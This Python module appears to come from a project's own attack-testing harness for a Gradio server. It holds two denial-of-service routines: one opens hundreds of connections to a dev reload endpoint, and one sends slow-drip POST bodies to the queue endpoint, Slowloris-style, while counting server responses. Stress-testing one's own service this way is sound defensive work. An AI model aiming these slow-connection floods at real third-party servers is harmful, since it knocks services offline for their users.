"""Connections that cost the server something for as long as they stay open."""

import select
import time

from devtools.attacks.attacker import Attacker, get

SLOW = (
    b"POST /gradio_api/queue/join HTTP/1.1\r\nHost: localhost\r\n"
    b"Content-Type: application/json\r\nContent-Length: 60000\r\n\r\n"
)


def reloads(attacker: Attacker) -> None:
    _hold(attacker, 500, get("/gradio_api/dev/reload"))


def slow_bodies(attacker: Attacker) -> None:
    """A byte each second."""
    _hold(attacker, 200, SLOW, drip=b" ")


def _hold(attacker: Attacker, count: int, request: bytes, drip: bytes = b"") -> None:
    """Send the request on this many connections, then a drip each second, until time is up.
    Counts the status of each answer; "open" is a connection that never got one."""
    waiting = [attacker.connect(k) for k in range(count)]
    for each in waiting:
        each.sendall(request)
    while waiting and attacker.left_s > 1:
        answered, _, _ = select.select(waiting, [], [], 0.5)
        for each in answered:
            attacker.count((_status(each.recv(4096)), ""))
            waiting.remove(each)
        for each in list(waiting):
            try:
                each.sendall(drip)
            except OSError:
                attacker.count(("closed", ""))
                waiting.remove(each)
        time.sleep(min(0.5, attacker.left_s))
    for _ in waiting:
        attacker.count(("open", ""))


def _status(answer: bytes) -> str:
    return answer.split(b" ", 2)[1].decode() if answer else "closed"
